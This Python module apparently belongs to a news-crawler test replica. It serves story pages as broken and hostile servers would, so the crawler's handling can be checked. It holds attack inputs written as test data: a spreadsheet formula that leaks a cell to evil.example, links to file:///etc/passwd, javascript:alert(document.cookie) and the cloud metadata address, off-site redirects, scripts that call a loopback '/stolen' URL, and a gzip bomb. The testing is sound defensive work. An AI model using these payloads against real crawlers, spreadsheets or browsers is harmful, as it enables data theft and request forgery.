"""Fault mode: chosen story URLs served the way broken and hostile servers serve pages.

``ReplicaOptions(faults=True)`` picks, from the seed alone, one plain story per fault and one
more plain story, the *fault hub*, whose related headlines link to every fault story and to
hostile hrefs (``file:``, ``ftp:``, ``data:``, ``javascript:``, loopback and private addresses).
``portal.faults`` maps each fault URL to its :class:`Fault` (what a correct crawler ends it as);
``portal.variants["fault:<name>"]`` lists the same URL. Without the option nothing changes.

A fault a well-behaved server cannot send (a slow answer, a reset connection, a body shorter than
its ``Content-Length``, a 50 MB stream) is a :class:`~newscrawl.replica.portal.Page` whose
``misbehave`` writes straight to the connection.
"""

from __future__ import annotations

import contextlib
import dataclasses
import gzip
import json
import random
import socket
import struct
import time
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from functools import cache
from http.server import BaseHTTPRequestHandler
from typing import TYPE_CHECKING

from newscrawl.replica import content, pages
from newscrawl.replica import index as idx
from newscrawl.replica.index import ORIGIN

if TYPE_CHECKING:
    from newscrawl.replica.portal import Page, Portal

SLOW_SECONDS = 5.0  # a timeout only when DOWNLOAD_TIMEOUT is below this (tests use 1 s)
REDIRECT_CHAIN = 8  # hops: beyond the default REDIRECT_MAX_TIMES of 5
BOMB_BYTES = 64 * 1024 * 1024  # what the gzip bomb expands to (about 64 kB compressed)
HUGE_BYTES = 50 * 1024 * 1024
CHUNK = 64 * 1024
LOOPBACK_TARGET = "http://127.0.0.1:8080/"
PRIVATE_TARGET = "http://10.0.0.1/Chine/"
OTHER_HOST_TARGET = "http://en.people.cn/n3/2021/0104/c90000-9500001.html"
CELL_LIMIT = 32_767  # characters a spreadsheet cell holds (Excel, LibreOffice)
LONG_BODY_CHARS = 40_000  # one paragraph, one line: past CELL_LIMIT
MANY_RELATED = 400  # related headlines: their JSON is past CELL_LIMIT
# Characters that str.splitlines() (and many line readers) take for line ends, which JSON does
# not escape: a JSON lines writer must.
LINE_SEPARATORS = "\u2028\u2029\x85"
# Symbols only: paragraphs with no letter and no digit, long enough to be a body.
NO_WORDS_BODIES = (
    ("★ ☆ ✦ ✧ → ← ↑ ↓ ◆ ◇ ● ○ ■ □ ▲ △ ▼ ▽ ♠ ♣ ♥ ♦ " * 12).strip(),
    ("※ ✓ ✗ ⇒ ⇐ ⇔ ∞ ≈ ≠ ≤ ≥ ± ⊕ ÷ √ ∑ ∏ ∫ ∂ ∇ " * 12).strip(),
)


@dataclass(frozen=True)
class Fault:
    name: str
    url: str
    expected: str  # how a correct crawl ends the URL: "story", "rejected:<r>", "failed:<r>"
    what: str


# name -> (expected outcome, what the replica does)
FAULTS: dict[str, tuple[str, str]] = {
    "server_error": ("failed:http_500_after_retries", "500 on every request"),
    "slow": ("failed:timeout", f"headers only after {SLOW_SECONDS:g} s"),
    "connection_reset": ("failed:connection_error", "half the body, then a TCP reset"),
    "truncated": ("failed:truncated", "half the body Content-Length announces, then closed"),
    "empty": ("failed:empty_body", "200 with an empty body"),
    "image_as_html": ("rejected:not_html", "JPEG bytes served as text/html"),
    "html_as_octet_stream": ("story", "the story page served as application/octet-stream"),
    "wrong_charset": ("story", "header and <meta> say UTF-8, the bytes are ISO-8859-1"),
    "missing_charset": ("story", "UTF-8 bytes, no charset in the header nor a <meta>"),
    "malformed_html": ("story", "unclosed tags, nested forms, a stray </html>: still a story"),
    "formula_title": ("story", "a headline a spreadsheet would run: =HYPERLINK(…)"),
    "redirect_loop": ("failed:redirect_loop", "302 to a page that 302s back"),
    "redirect_chain": ("failed:too_many_redirects", f"{REDIRECT_CHAIN} chained 302s"),
    "redirect_other_host": ("failed:redirect_off_portal", f"301 to {OTHER_HOST_TARGET}"),
    "redirect_loopback": ("failed:redirect_off_portal", f"302 to {LOOPBACK_TARGET}"),
    "redirect_ipv6_loopback": ("failed:redirect_off_portal", "302 to http://[::1]/"),
    "redirect_private": ("failed:redirect_off_portal", f"302 to {PRIVATE_TARGET}"),
    "redirect_file": ("failed:redirect_off_portal", "302 to file:///etc/passwd"),
    "hostile_script": (
        "story",
        "a script that fetch()es, frames and navigates to the loopback, then loads an in-portal"
        " script (the probe, proof that it ran)",
    ),
    "meta_refresh_off_portal": (
        "failed:redirect_off_portal",
        f'the story with <meta http-equiv="refresh" content="0;url={LOOPBACK_TARGET}">',
    ),
    "meta_refresh_self": (
        "story",
        'the story with <meta http-equiv="refresh" content="0;url=…"> to its own URL',
    ),
    "gzip_bomb": ("failed:too_large", f"gzip body expanding to {BOMB_BYTES >> 20} MB"),
    "huge_page": ("failed:too_large", f"{HUGE_BYTES >> 20} MB page, Content-Length given"),
    "huge_page_chunked": ("failed:too_large", f"{HUGE_BYTES >> 20} MB page, chunked, no length"),
    # A rendered page's other ways out (the static crawl runs no script: each is a story).
    "webrtc": (
        "story",
        "a script that opens WebRTC peer connections to a STUN (UDP) and a TURN (TCP) server on"
        " the loopback, from the page and from a blank iframe",
    ),
    "websocket": (
        "story",
        "WebSockets to the loopback and to the portal from the page, a blank iframe, a worker and"
        " a shared worker, and a WebSocketStream",
    ),
    "popup_window_open": (
        "story",
        "window.open() of the loopback and of a portal story, and a blank window the script"
        " writes a picture and a fetch() into",
    ),
    "popup_form_post": ("story", "a form POSTed to the loopback with target=_blank"),
    "popup_link_click": ("story", "a target=_blank link to the loopback, clicked by a script"),
    # Odd input.
    "charset_zlib": ("story", "Content-Type charset=zlib: a codec, but no text encoding"),
    "charset_hex": ("story", "Content-Type charset=hex"),
    "charset_rot13": ("story", "Content-Type charset=rot13"),
    "charset_utf16": ("story", "Content-Type charset=utf-16 on UTF-8 bytes (no NUL at all)"),
    "nul_byte": ("story", "one NUL byte in the first kilobyte of an otherwise valid page"),
    "no_words": ("story", "a body of symbols only, no letter, no digit"),
    "no_words_other": ("story", "another body of other symbols only"),
    "line_separators": (
        "story",
        "related headlines whose hrefs carry U+2028, U+2029 and U+0085 (JSON leaves them raw)",
    ),
    "line_separator_header": (
        "rejected:not_html",
        "JPEG bytes whose Content-Type carries byte 0x85 (U+0085), quoted in the rejection",
    ),
    "long_body": (
        "story",
        f"a body of one {LONG_BODY_CHARS:,}-character line: past a spreadsheet cell",
    ),
    "many_related": (
        "story",
        f"{MANY_RELATED} related headlines: their JSON is past a spreadsheet cell",
    ),
}
# The smallest replica with a plain story for every fault and the hub.
FAULT_STORIES = 90
FORMULA_TITLE = '=HYPERLINK("http://evil.example/?leak="&A1;"Cliquez ici")'
REDIRECT_TARGETS = {
    "redirect_other_host": OTHER_HOST_TARGET,
    "redirect_loopback": LOOPBACK_TARGET,
    "redirect_ipv6_loopback": "http://[::1]/",
    "redirect_private": PRIVATE_TARGET,
    "redirect_file": "file:///etc/passwd",
}
# Related headlines on the hub that lead to no portal page: never to be requested.
HOSTILE_HREFS = (
    "file:///etc/passwd",
    "ftp://french.peopledaily.com.cn/Chine/n3/2021/0104/c31357-9500001.html",
    "data:text/html;base64,PGgxPkNvdWNvdTwvaDE+",
    "javascript:alert(document.cookie)",
    "http://127.0.0.1/Chine/n3/2021/0104/c31357-9500001.html",
    "http://10.0.0.1/Chine/n3/2021/0104/c31357-9500001.html",
    "http://[::1]/Chine/n3/2021/0104/c31357-9500001.html",
    "http://localhost/Chine/n3/2021/0104/c31357-9500001.html",
    "http://french.peopledaily.com.cn@127.0.0.1/Chine/n3/2021/0104/c31357-9500001.html",
    "http://169.254.169.254/latest/meta-data/",
)
NOT_WEB = ("file:", "ftp:", "data:", "javascript:")
Misbehaviour = Callable[[BaseHTTPRequestHandler], None]


class FaultPlan:
    """Which story serves which fault, and the pages that do it."""

    def __init__(self, portal: Portal):
        self.portal = portal
        rows = self._candidate_rows()
        needed = len(FAULTS) + 1
        if len(rows) < needed:
            raise ValueError(
                f"fault mode needs {needed} plain stories; use stories >= {FAULT_STORIES}"
            )
        picked = random.Random(f"{portal.options.seed}:faults").sample(rows, needed)
        self.hub_row = picked[0]
        self.rows = dict(zip(FAULTS, picked[1:], strict=True))
        self.faults = {
            portal.entries[row].url: Fault(name, portal.entries[row].url, *FAULTS[name])
            for name, row in self.rows.items()
        }
        self.by_path = {portal.entries[row].path(): name for name, row in self.rows.items()}
        self.loopback = f"http://127.0.0.1:{portal.options.loopback_port}/"
        self._link_from_hub()
        gzip_bomb()  # built now (under a second, once per process), not while a crawler waits

    def _candidate_rows(self) -> list[int]:
        specials = self.portal.specials
        busy = {row for pair in specials.pairs for row in pair[:2]}
        busy |= set(specials.extra_related) | set(specials.edited) | set(specials.added)
        base = self.portal.entries[: self.portal.base]
        return [row for row in idx.plain_rows(base, specials) if row not in busy]

    def _link_from_hub(self) -> None:
        extras = self.portal.specials.extra_related.setdefault(self.hub_row, [])
        for row in self.rows.values():
            url = self.portal.entries[row].url
            extras.append((self.portal.writer.story_title(row), url, url))
        for number, href in enumerate(HOSTILE_HREFS, 1):
            extras.append((f"Lien piégé numéro {number}", href, href))

    @property
    def hub_url(self) -> str:
        return self.portal.entries[self.hub_row].url

    def variants(self) -> dict[str, list[str]]:
        return {
            "fault_hub": [self.hub_url],
            **{f"fault:{fault.name}": [fault.url] for fault in self.faults.values()},
        }

    # ----- serving --------------------------------------------------------------------------
    def respond(self, path: str) -> Page | None:
        """The fault served at ``path``, or None: the portal answers as usual."""
        name = self.by_path.get(path)
        if name is not None:
            return self.serve(name, self.rows[name])
        return self.hop(path)

    def serve(self, name: str, row: int) -> Page:
        from newscrawl.replica.portal import JPEG, Page, page

        html = self.story_html(row)
        if name == "server_error":
            return page(500, b"<html><body>Erreur interne</body></html>")
        if name == "empty":
            return page(200, b"")
        if name == "image_as_html":
            return page(200, JPEG, "text/html; charset=utf-8")
        if name == "html_as_octet_stream":
            return page(200, html.encode("utf-8"), "application/octet-stream")
        if name == "wrong_charset":
            body = html.encode("latin-1", errors="xmlcharrefreplace")
            return page(200, body, "text/html; charset=utf-8")
        if name == "missing_charset":
            return page(200, html.replace(pages.charset_meta("UTF-8"), "").encode(), "text/html")
        if name == "malformed_html":
            return page(200, malformed(html).encode("utf-8"))
        if name == "meta_refresh_off_portal":
            refresh = f'<meta http-equiv="refresh" content="0;url={self.loopback}" />\n'
            return page(200, html.replace("</head>", refresh + "</head>", 1).encode("utf-8"))
        if name == "meta_refresh_self":
            return page(200, refreshing(html, self.portal.entries[row].url, 0).encode("utf-8"))
        if name == "formula_title":
            story = dataclasses.replace(self.portal.content(row), title=FORMULA_TITLE)
            return page(200, pages.story_page(story).encode("utf-8"))
        if name == "redirect_loop":
            return page(302, b"", Location=f"{ORIGIN}/fault/loop/{row}.html")
        if name == "redirect_chain":
            return page(302, b"", Location=f"{ORIGIN}/fault/chain/{row}/1.html")
        if name == "hostile_script":
            script = hostile_script(self.loopback, row)
            return page(200, html.replace("</body>", script + "</body>", 1).encode("utf-8"))
        if name in REDIRECT_TARGETS:
            target = self.loopback if name == "redirect_loopback" else REDIRECT_TARGETS[name]
            return page(301 if name == "redirect_other_host" else 302, b"", Location=target)
        if name == "gzip_bomb":
            return page(200, gzip_bomb(), Content_Encoding="gzip")
        if name in BROWSER_ESCAPES:
            script = BROWSER_ESCAPES[name](self.loopback, self.portal.entries[row].url)
            script += f'<script type="text/javascript" src="{PROBE_PATH}{row}.js"></script>\n'
            return page(200, html.replace("</body>", script + "</body>", 1).encode("utf-8"))
        if name.startswith("charset_"):
            codec = name.removeprefix("charset_").replace("utf16", "utf-16")
            body = html.encode("utf-8")
            body += b" " * (len(body) % 2)  # an even length: UTF-16 decodes it without error
            return page(200, body, f"text/html; charset={codec}")
        if name == "nul_byte":
            nul = html.replace("<title>", "<title>\x00", 1).encode("utf-8")
            return page(200, nul, "text/html; charset=utf-8")
        if name in ("no_words", "no_words_other", "long_body", "many_related"):
            return page(200, pages.story_page(self.odd_content(name, row)).encode("utf-8"))
        if name == "line_separator_header":
            return page(200, JPEG, "image/jpeg; name=photo\x85.jpg")
        if name == "line_separators":
            story = self.portal.content(row)
            odd = [
                content.RelatedHeadline(f"Lien{mark}bizarre", url, url)
                for mark in LINE_SEPARATORS
                for url in [f"http://en.people.cn/n3/2021/0104/c90000-{mark}9500001.html"]
            ]
            story = dataclasses.replace(story, related=[*story.related, *odd])
            return page(200, pages.story_page(story).encode("utf-8"))
        body = html.encode("utf-8")
        behaviours: dict[str, Misbehaviour] = {
            "slow": lambda handler: slow(handler, body),
            "connection_reset": lambda handler: cut_short(handler, body, reset=True),
            "truncated": lambda handler: cut_short(handler, body, reset=False),
            "huge_page": lambda handler: stream(handler, body, chunked=False),
            "huge_page_chunked": lambda handler: stream(handler, body, chunked=True),
        }
        return Page(200, {}, b"", misbehave=guarded(behaviours[name]))

    def hop(self, path: str) -> Page | None:
        """The intermediate pages of the redirect loop and chain."""
        from newscrawl.replica.portal import page

        parts = path.strip("/").removesuffix(".html").split("/")
        if path.startswith(PROBE_PATH):  # the hostile script ran (a browser asked for this)
            return page(200, b"/* probe */", "text/javascript")
        if parts[:2] == ["fault", "loop"] and len(parts) == 3 and parts[2].isdigit():
            return page(302, b"", Location=self.portal.entries[int(parts[2])].url)
        if parts[:2] == ["fault", "chain"] and len(parts) == 4 and parts[3].isdigit():
            step = int(parts[3])
            if step >= REDIRECT_CHAIN:  # the end of the chain serves the story
                return page(200, self.story_html(int(parts[2])).encode("utf-8"))
            return page(302, b"", Location=f"{ORIGIN}/fault/chain/{parts[2]}/{step + 1}.html")
        return None

    def story_html(self, row: int) -> str:
        return pages.story_page(self.portal.content(row))

    def odd_content(self, name: str, row: int) -> content.StoryContent:
        """The story with an odd body or related list (the rest of it as the portal's)."""
        story = self.portal.content(row)
        if name in ("no_words", "no_words_other"):
            symbols = NO_WORDS_BODIES[name == "no_words_other"]
            blocks = [content.Block("p", symbols), content.Block("p", symbols[::-1])]
            return dataclasses.replace(story, pages=[blocks])
        if name == "long_body":
            line = " ".join(f"mot{number}" for number in range(LONG_BODY_CHARS // 4))
            line = line[:LONG_BODY_CHARS].rstrip()
            return dataclasses.replace(story, pages=[[content.Block("p", line)]])
        section, day = story.entry.section, story.entry.published
        related = [
            content.RelatedHeadline(f"Titre numéro {number} d'une longue liste", url, url)
            for number in range(MANY_RELATED)
            for url in [
                f"{ORIGIN}/{section}/n3/{day:%Y/%m%d}/c31357-{8_000_000 + row * 1000 + number}.html"
            ]
        ]
        return dataclasses.replace(story, related=related)


PROBE_PATH = "/fault/probe/"


def webrtc_script(loopback: str, story_url: str) -> str:
    """Peer connections that gather candidates against servers on the loopback: STUN over UDP,
    TURN over TCP; from the page, and from a blank iframe (its own RTCPeerConnection)."""
    host = loopback.split("//", 1)[1].rstrip("/")
    servers = json.dumps(
        [
            {"urls": f"stun:{host}"},
            {"urls": f"turn:{host}?transport=tcp", "username": "u", "credential": "p"},
        ]
    )
    return f"""<script type="text/javascript">
  function peer(scope) {{
    try {{
      var connection = new scope.RTCPeerConnection({{iceServers: {servers}}});
      connection.createDataChannel("canal");
      connection.createOffer().then(function (offer) {{
        return connection.setLocalDescription(offer);
      }}).catch(function () {{}});
    }} catch (error) {{}}
  }}
  peer(window);
  var blank = document.createElement("iframe");
  document.body.appendChild(blank);
  peer(blank.contentWindow);
</script>
"""


def websocket_script(loopback: str, story_url: str) -> str:
    """WebSockets every way a page can open one."""
    ws = "ws://" + loopback.split("//", 1)[1]
    portal = "ws://" + story_url.split("//", 1)[1].split("/", 1)[0] + "/direct"
    worker = json.dumps(f"new WebSocket({json.dumps(ws + 'worker')});")
    shared = json.dumps(f"new WebSocket({json.dumps(ws + 'shared-worker')});")
    return f"""<script type="text/javascript">
  function attempt(open) {{ try {{ open(); }} catch (error) {{}} }}
  attempt(function () {{ new WebSocket({json.dumps(ws + "page")}); }});
  attempt(function () {{ new WebSocket({json.dumps(portal)}); }});
  attempt(function () {{
    var blank = document.createElement("iframe");
    document.body.appendChild(blank);
    new blank.contentWindow.WebSocket({json.dumps(ws + "iframe")});
  }});
  attempt(function () {{ new WebSocketStream({json.dumps(ws + "stream")}); }});
  attempt(function () {{
    new Worker(URL.createObjectURL(new Blob([{worker}], {{type: "text/javascript"}})));
  }});
  attempt(function () {{
    new SharedWorker(URL.createObjectURL(new Blob([{shared}], {{type: "text/javascript"}})));
  }});
</script>
"""


def window_open_script(loopback: str, story_url: str) -> str:
    other = json.dumps(story_url.replace(".html", "-popup.html"))
    return f"""<script type="text/javascript">
  try {{
    window.open({json.dumps(loopback + "popup-open")});
    window.open({other});
    var blank = window.open("about:blank");
    if (blank) {{
      blank.document.write('<img src="{loopback}popup-picture">');
      blank.fetch({json.dumps(loopback + "popup-fetch")}).catch(function () {{}});
    }}
  }} catch (error) {{}}
</script>
"""


def form_post_script(loopback: str, story_url: str) -> str:
    return f"""<form id="envoi" method="post" target="_blank" action="{loopback}popup-form">
  <input type="hidden" name="secret" value="1" />
</form>
<script type="text/javascript">
  try {{ document.getElementById("envoi").submit(); }} catch (error) {{}}
</script>
"""


def link_click_script(loopback: str, story_url: str) -> str:
    return f"""<a id="ailleurs" href="{loopback}popup-link" target="_blank">ailleurs</a>
<script type="text/javascript">
  try {{ document.getElementById("ailleurs").click(); }} catch (error) {{}}
</script>
"""


# fault -> what its page adds before </body> (then the probe, proof that it ran to its end)
BROWSER_ESCAPES: dict[str, Callable[[str, str], str]] = {
    "webrtc": webrtc_script,
    "websocket": websocket_script,
    "popup_window_open": window_open_script,
    "popup_form_post": form_post_script,
    "popup_link_click": link_click_script,
}


def hostile_script(loopback: str, row: int) -> str:
    """What a page's scripts could do to turn a browser against the crawler's own machine."""
    target = json.dumps(loopback + "stolen")
    return f"""<script type="text/javascript">
  fetch({target}).catch(function () {{}});
  var request = new XMLHttpRequest(); request.open("GET", {target}); request.send();
  var frame = document.createElement("iframe"); frame.src = {target};
  document.body.appendChild(frame);
  fetch("http://en.people.cn/stolen").catch(function () {{}});
  window.addEventListener("load", function () {{ window.location.href = {target}; }});
</script>
<iframe src={target}></iframe>
<script type="text/javascript" src="{PROBE_PATH}{row}.js"></script>
"""


def refreshing(html: str, url: str, seconds: int) -> str:
    """The page, with a ``<meta http-equiv="refresh">`` to ``url`` after ``seconds``."""
    refresh = f'<meta http-equiv="refresh" content="{seconds};url={url}" />\n'
    return html.replace("</head>", refresh + "</head>", 1)


def malformed(html: str) -> str:
    """The story page with the breakage real pages show; the story itself stays readable."""
    html = html.replace(
        '<div class="txt_t">',
        '<form action="/s"><div><form action="/t"><input name="q"><span><b>unclosed'
        '</div></html>\n<div class="txt_t">',
        1,
    )
    html = html.replace("<!--footer-->", "<table><tr><td><div><p><font>\n</html></body>\n", 1)
    return html + "<p>après la fin</p></div></div>"


@cache
def gzip_bomb() -> bytes:
    return gzip.compress(b" " * BOMB_BYTES, compresslevel=9, mtime=0)


def guarded(behaviour: Misbehaviour) -> Misbehaviour:
    """The crawler gives up on these answers; its closed connection is expected, not an error."""

    def run(handler: BaseHTTPRequestHandler) -> None:
        handler.close_connection = True
        with contextlib.suppress(OSError):
            behaviour(handler)

    return run


def headers(handler: BaseHTTPRequestHandler, length: int | None) -> None:
    handler.send_response(200)
    handler.send_header("Content-Type", "text/html; charset=utf-8")
    if length is None:
        handler.send_header("Transfer-Encoding", "chunked")
    else:
        handler.send_header("Content-Length", str(length))
    handler.end_headers()


def slow(handler: BaseHTTPRequestHandler, body: bytes) -> None:
    time.sleep(SLOW_SECONDS)
    headers(handler, len(body))
    handler.wfile.write(body)


def cut_short(handler: BaseHTTPRequestHandler, body: bytes, reset: bool) -> None:
    headers(handler, len(body))
    handler.wfile.write(body[: len(body) // 2])
    connection: socket.socket = handler.connection  # type: ignore[attr-defined]
    if reset:  # linger 0: close() sends RST instead of FIN
        connection.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
        connection.close()
    else:
        connection.shutdown(socket.SHUT_WR)


def huge_body(start: bytes, total: int) -> Iterator[bytes]:
    """``total`` bytes of HTML, made chunk by chunk: the page is never held in memory."""
    head = start.split(b"<!--footer-->", 1)[0]
    yield head
    sent = len(head)
    filler = b"<p>" + b"Du texte de remplissage. " * 40 + b"</p>\n"
    block = filler * (CHUNK // len(filler))
    while sent + len(block) < total:
        yield block
        sent += len(block)
    if total > sent:
        yield b" " * (total - sent)


def stream(handler: BaseHTTPRequestHandler, body: bytes, chunked: bool) -> None:
    headers(handler, None if chunked else HUGE_BYTES)
    for chunk in huge_body(body, HUGE_BYTES):
        if chunked:
            handler.wfile.write(b"%x\r\n%s\r\n" % (len(chunk), chunk))
        else:
            handler.wfile.write(chunk)
    if chunked:
        handler.wfile.write(b"0\r\n\r\n")
